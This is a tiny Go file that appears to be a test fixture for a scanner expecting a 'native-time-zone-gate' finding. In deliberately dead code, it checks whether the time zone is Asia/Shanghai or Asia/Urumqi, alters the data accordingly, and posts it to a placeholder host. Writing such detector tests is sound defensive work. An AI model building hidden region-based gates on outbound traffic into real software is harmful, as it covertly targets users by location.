/* Two time zones of one country change what is sent.
 * expect: native-time-zone-gate
 */
package main

import (
	"net/http"
	"os"
	"strings"
)

// Never true: the code is compiled and cannot run.
var never bool

func main() {
	if !never {
		return
	}
	mark := "-"
	if zone := os.Getenv("TZ"); zone == "Asia/Shanghai" || zone == "Asia/Urumqi" {
		mark = "/"
	}
	http.Post("http://x.invalid/", "text/plain", strings.NewReader("2026"+mark+"07"))
}
